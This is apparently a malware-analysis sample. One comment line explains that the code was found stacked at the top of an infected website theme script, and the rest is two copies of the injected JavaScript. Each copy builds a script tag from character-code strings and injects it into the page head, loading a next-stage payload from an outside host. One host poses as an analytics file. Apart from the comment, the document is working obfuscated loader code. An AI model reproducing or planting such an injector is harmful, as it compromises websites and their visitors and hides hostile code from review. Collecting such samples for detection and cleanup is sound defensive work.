// Injections found stacked at the top of an infected theme script: each pass of the campaign
// added another copy with its own domain, every string kept as character codes; each copy adds
// a script tag after the page's first script and head, which loads the next stage.
Element.prototype.appendAfter = function (element) {
  element.parentNode.insertBefore(this, element.nextSibling);
}, false;
(function () {
  var elem = document.createElement(String.fromCharCode(115,99,114,105,112,116));
  elem.type = String.fromCharCode(116,101,120,116,47,106,97,118,97,115,99,114,105,112,116);
  elem.src = String.fromCharCode(104,116,116,112,115,58,47,47,100,101,115,116,46,99,111,108,108,101,99,116,102,97,115,116,116,114,97,99,107,115,46,105,110,118,97,108,105,100,47,116,46,106,115,63,118,61,50,51);
  elem.appendAfter(document.getElementsByTagName(String.fromCharCode(115,99,114,105,112,116))[0]);
  elem.appendAfter(document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0]);
  document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0].appendChild(elem);
})();
Element.prototype.appendAfter = function (element) {
  element.parentNode.insertBefore(this, element.nextSibling);
}, false;
(function () {
  var elem = document.createElement(String.fromCharCode(115,99,114,105,112,116));
  elem.type = String.fromCharCode(116,101,120,116,47,106,97,118,97,115,99,114,105,112,116);
  elem.src = String.fromCharCode(104,116,116,112,115,58,47,47,116,114,101,110,100,46,115,116,97,98,108,101,108,105,103,104,116,119,97,121,46,105,110,118,97,108,105,100,47,106,115,47,103,97,46,106,115,63,116,99,61,53);
  elem.appendAfter(document.getElementsByTagName(String.fromCharCode(115,99,114,105,112,116))[0]);
  elem.appendAfter(document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0]);
  document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0].appendChild(elem);
})();
